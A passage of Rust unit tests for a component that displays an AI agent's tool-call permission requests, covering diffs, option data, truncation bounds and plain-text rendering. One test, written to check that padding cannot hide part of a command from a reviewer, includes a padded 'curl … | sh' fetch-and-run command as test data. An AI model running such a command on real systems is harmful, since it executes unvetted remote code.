        assert_eq!(lines.len(), 1 + MAX_DIFF_LINES + 1 + 1);
        assert_eq!(lines.last().map(|l| l.text.as_str()), Some("+new"));
        // At the bound it is still searched.
        let old: String = (0..MAX_DIFF_LINES).map(|i| format!("{i}\n")).collect();
        assert_eq!(diff_lines(&old, &old.replace("\n7\n", "\nseven\n"), Bounds::CARD)[0].tone, Tone::Hunk);
    }

    #[test]
    fn content_and_raw_input_of_a_write_are_both_shown() {
        let call = json!({
            "kind": "edit", "title": "Write notes.txt", "locations": [{"path": "/w/notes.txt"}],
            "content": [{"type": "diff", "path": "/w/notes.txt", "oldText": null, "newText": "hi\n"},
                        {"type": "terminal", "terminalId": "t-1"}],
            "rawInput": {"path": "/w/notes.txt", "content": "hi\n"},
        });
        let r = request(&call, &json!([]), Bounds::CARD);
        // The file text is the diff's new text: shown once, as the diff.
        assert_eq!(headings(&r), ["locations", "new file /w/notes.txt", "terminal", "rawInput"]);
        assert_eq!(texts(&r.sections[1]), ["@@ -0,0 +1 @@", "+hi"]);
        assert_eq!(texts(&r.sections[2]), ["t-1"]);
        assert_eq!(texts(&r.sections[3]), ["path: /w/notes.txt"]);
        // A text that differs from every diff's is shown too: what the tool was given is not
        // what the diff says.
        let mut other = call.clone();
        other["rawInput"]["content"] = json!("bye\n");
        let r = request(&other, &json!([]), Bounds::CARD);
        assert_eq!(
            headings(&r),
            ["locations", "new file /w/notes.txt", "terminal", "rawInput.content", "rawInput"]
        );
        assert_eq!(texts(&r.sections[3]), ["bye"]);
    }

    #[test]
    fn an_edit_pair_is_a_diff_unless_the_content_has_one_and_a_patch_is_toned() {
        let input = json!({"file_path": "/w/a", "old_string": "x\n", "new_string": "y\n"});
        let r = request(&json!({"rawInput": input}), &json!([]), Bounds::CARD);
        assert_eq!(headings(&r), ["rawInput old_string → new_string", "rawInput"]);
        assert_eq!(texts(&r.sections[0]), ["@@ -1 +1 @@", "-x", "+y"]);
        let with_diff = json!({"content": [{"type": "diff", "path": "/w/a", "oldText": "x\n", "newText": "y\n"}], "rawInput": input});
        let r = request(&with_diff, &json!([]), Bounds::CARD);
        assert_eq!(headings(&r), ["diff /w/a", "rawInput.old_string", "rawInput"]);
        let patch = "*** Begin Patch\n*** Update File: a\n@@\n-x\n+y\n*** End Patch\n";
        let r = request(&json!({"rawInput": {"patch": patch}}), &json!([]), Bounds::CARD);
        let tones: Vec<Tone> = r.sections[0].lines.iter().map(|l| l.tone).collect();
        assert_eq!(tones, [Tone::Hunk, Tone::Hunk, Tone::Hunk, Tone::Removed, Tone::Added, Tone::Hunk]);
    }

    #[test]
    fn options_show_what_they_carry_beyond_id_name_and_kind() {
        let options = json!([
            {"optionId": "allow_once", "name": "Allow", "kind": "allow_once"},
            {"optionId": "apply", "name": "Apply this patch", "kind": "allow_once",
             "data": {"diff": "--- a\n+++ b\n@@ -1 +1 @@\n-x\n+y\n"}},
            {"optionId": "modify", "name": "Run this instead", "kind": "allow_once",
             "data": {"command": ["git", "status"], "note": "safer"}, "_meta": {"x": 1}},
        ]);
        let r = request(&json!({}), &options, Bounds::CARD);
        assert_eq!(r.choices.len(), 3);
        assert!(r.choices[0].sections.is_empty());
        let apply = &r.choices[1].sections[0];
        assert_eq!(apply.heading, "data.diff");
        assert_eq!(
            apply.lines.iter().map(|l| l.tone).collect::<Vec<_>>(),
            [Tone::Hunk, Tone::Hunk, Tone::Hunk, Tone::Removed, Tone::Added]
        );
        let modify: Vec<&str> = r.choices[2].sections.iter().map(|s| s.heading.as_str()).collect();
        assert_eq!(modify, ["data.command", "data.note"]);
        assert_eq!(texts(&r.choices[2].sections[0]), ["$ git status"]);
        assert_eq!((r.kind.as_str(), r.title.as_str()), ("other", "a tool call"));
    }

    #[test]
    fn a_card_is_bounded_and_says_what_it_left_out() {
        let text: String = (0..100).map(|i| format!("line {i}\n")).collect();
        let long = "x".repeat(CARD_CHARS_PER_LINE + 10);
        let call = json!({"title": long, "rawInput": {"content": text, "command": long}});
        let r = request(&call, &json!([]), Bounds::CARD);
        assert_eq!(r.title.chars().count(), CARD_CHARS_PER_LINE);
        let command = &r.sections[0];
        assert_eq!(command.lines[0].cut_chars, 10);
        let content = &r.sections[1];
        assert_eq!(content.lines.len(), CARD_LINES_PER_SECTION);
        assert_eq!(content.omitted_lines, 100 - CARD_LINES_PER_SECTION);
        assert!(!r.whole());
        let all = request(&call, &json!([]), Bounds::ALL);
        assert!(all.whole());
        assert_eq!(all.sections[1].lines.len(), 100);
        assert_eq!(all.title, long);
        // One more line than the bound is one line omitted; exactly the bound is whole.
        let exact: String = (0..CARD_LINES_PER_SECTION).map(|i| format!("{i}\n")).collect();
        assert!(request(&json!({"rawInput": {"content": exact}}), &json!([]), Bounds::CARD).whole());
    }

    /// Issue #27's padded command: the bound counts what is shown, so 300 spaces (shown as their
    /// length) cannot push `&& curl … | sh` out of a card.
    #[test]
    fn padding_does_not_push_a_command_past_the_bound() {
        let command = format!("ls{}&& curl x | sh", " ".repeat(300));
        let r =
            request(&json!({"title": command, "rawInput": {"command": command}}), &json!([]), Bounds::CARD);
        assert_eq!(texts(&r.sections[0]), ["$ ls⟪300 spaces⟫&& curl x | sh"]);
        assert_eq!(r.title, "ls⟪300 spaces⟫&& curl x | sh");
        assert!(r.whole());
    }

    /// Whole means nothing was left out anywhere: one cut line, one omitted line, a cut title,
    /// tool, option name or option section each make the request not whole.
    #[test]
    fn whole_is_false_when_anything_anywhere_was_left_out() {
        let bounds = Bounds { lines_per_section: 2, chars_per_line: 5 };
        let whole = |call: Value, options: Value| request(&call, &options, bounds).whole();
        assert!(whole(json!({"title": "short", "rawInput": {"content": "a\nb\n"}}), json!([])));
        assert!(!whole(json!({"title": "short", "rawInput": {"content": "a\nb\nc\n"}}), json!([])));
        assert!(!whole(json!({"title": "short", "rawInput": {"content": "abcdef\n"}}), json!([])));
        assert!(!whole(json!({"title": "longer"}), json!([])));
        assert!(!whole(json!({"kind": "execute"}), json!([])));
        assert!(!whole(json!({"_meta": {"toolName": "Bashful"}}), json!([])));
        assert!(!whole(json!({"_meta": {"claudeCode": {"toolName": "Bashful"}}}), json!([])));
        assert!(!whole(json!({}), json!([{"optionId": "a", "name": "Allow it", "kind": "allow_once"}])));
        assert!(!whole(json!({}), json!([{"optionId": "a", "name": "ok", "data": {"note": "a\nb\nc"}}])));
        assert!(whole(json!({}), json!([{"optionId": "a", "name": "ok", "data": {"note": "a\nb"}}])));
        // Each section says so itself too.
        let r = request(
            &json!({"rawInput": {"content": "a\nb\nc\n", "file_text": "abcdef"}}),
            &json!([]),
            bounds,
        );
        assert_eq!(r.sections.iter().map(Section::whole).collect::<Vec<_>>(), [false, false]);
        let r = request(&json!({"rawInput": {"content": "a\n"}}), &json!([]), bounds);
        assert!(r.sections[0].whole());
    }

    #[test]
    fn each_known_kind_says_what_choosing_it_does() {
        assert_eq!(meaning("allow_once"), Some("Allows this call only."));
        assert_eq!(meaning("reject_once"), Some("Rejects this call only."));
        assert!(
            meaning("allow_always").is_some_and(|m| m.starts_with("Allows this call and tells the agent"))
        );
        assert!(
            meaning("reject_always").is_some_and(|m| m.starts_with("Rejects this call and tells the agent"))
        );
        assert_eq!(meaning("modify"), None);
        let r = request(
            &json!({}),
            &json!([{"optionId": "x", "name": "X", "kind": "reject_once"}]),
            Bounds::CARD,
        );
        assert_eq!(r.choices[0].meaning, Some("Rejects this call only."));
    }

    #[test]
    fn shown_chars_counts_every_shown_character() {
        let r = request(
            &json!({"kind": "edit", "title": "Wé", "_meta": {"toolName": "T"}, "rawInput": {"content": "ab\n"}}),
            &json!([{"optionId": "o", "name": "Ok", "kind": "allow_once", "data": {"diff": "@@ x\n+y\n"}}]),
            Bounds::ALL,
        );
        // kind 4 + title 2 + tool 1 + option name 2 + "rawInput.content" 16 + "ab" 2
        // + "data.diff" 9 + "@@ x" 4 + "+y" 2.
        assert_eq!(r.shown_chars(), 4 + 2 + 1 + 2 + 16 + 2 + 9 + 4 + 2);
    }

    #[test]
    fn plain_text_is_bounded_at_a_line_and_says_there_is_more() {
        let call = json!({"kind": "edit", "title": "Write a", "_meta": {"toolName": "Write"},
                          "content": [{"type": "diff", "path": "/w/a", "oldText": null, "newText": "one\ntwo\n"}]});
        let options = json!([{"optionId": "p", "name": "Apply", "kind": "allow_once", "data": {"diff": "@@ -0,0 +1 @@\n+x\n"}}]);
        let r = request(&call, &options, Bounds::CARD);
        let full = "edit: Write a (Write)\nnew file /w/a:\n  @@ -0,0 +1,2 @@\n  +one\n  +two\noption Apply:\n  data.diff:\n    @@ -0,0 +1 @@\n    +x";
        assert_eq!(plain(&r, 1000), (full.to_owned(), true));
        assert_eq!(plain(&r, full.chars().count()), (full.to_owned(), true), "exactly enough room");
        // One less: lines are dropped whole, and the note ends the text, within the bound.
        let (cut, whole) = plain(&r, full.chars().count() - 1);
        assert!(!whole);
        assert!(cut.ends_with(&format!("\n{PLAIN_MORE}")), "{cut}");
        assert!(cut.chars().count() < full.chars().count(), "{cut}");
        assert!(cut.starts_with("edit: Write a (Write)\nnew file /w/a:\n"), "{cut}");
        // Not even the first line fits: as much of it as leaves room for the note.
        // A line's separator counts: room for the first three lines' characters and one newline
        // is room for two lines.
        let three = "edit: Write a (Write)".len() + "new file /w/a:".len() + "  @@ -0,0 +1,2 @@".len();
        let (two, _) = plain(&r, three + 1 + PLAIN_MORE.chars().count() + 1);
        assert_eq!(two, format!("edit: Write a (Write)\nnew file /w/a:\n{PLAIN_MORE}"));
        // Room for exactly two lines and their newline holds both.
        let exact = "edit: Write a (Write)\nnew file /w/a:".chars().count();
        let (fits, _) = plain(&r, exact + 1 + PLAIN_MORE.chars().count());
        assert_eq!(fits, two);
        let (tiny, _) = plain(&r, PLAIN_MORE.chars().count() + 5);
        assert_eq!(tiny, format!("edit\n{PLAIN_MORE}"));
        // What the card left out is said in the text, and the text is not whole.
        let long = request(
            &json!({"title": "t", "rawInput": {"content": "a\nb\nc\n", "cmd": "abcdefgh"}}),
            &json!([]),
            Bounds { lines_per_section: 2, chars_per_line: 5 },
        );
        let (text, whole) = plain(&long, 1000);
        assert!(!whole);
        assert_eq!(
            text,
            "other: t\ncommand:\n  $ abcde … (3 more characters)\nrawInput.content:\n  a\n  b\n  … (1 more line)"
        );
    }

    #[test]
    fn a_cut_line_keeps_its_trailing_blanks_unmarked() {
        let bounds = Bounds { lines_per_section: 10, chars_per_line: 3 };
        assert_eq!(code_line("ab  cd", bounds), ("ab ".to_owned(), 3));
        assert_eq!(code_line("ab ", bounds), ("ab⟪1 trailing blank⟫".to_owned(), 0));
        assert_eq!(cut("héllo", 2), ("hé", 3));
        assert_eq!(cut("hé", 2), ("hé", 0));
    }

    #[test]
    fn the_request_is_laid_over_the_announced_call() {
        let announced = json!({"sessionUpdate": "tool_call", "toolCallId": "t", "title": "Write a", "kind": "edit",
                               "content": [{"type": "diff", "path": "/a", "oldText": "x", "newText": "y"}]});
        let requested = json!({"toolCallId": "t", "title": "Write a (again)", "content": null});
        let merged = laid_over(Some(&announced), &requested);
        assert_eq!(merged["title"], "Write a (again)");
        assert_eq!(merged["kind"], "edit");
        assert_eq!(merged["content"][0]["type"], "diff", "null keeps what was announced");
        assert!(merged.get("sessionUpdate").is_none());
        assert_eq!(laid_over(None, &requested)["title"], "Write a (again)");
    }
}
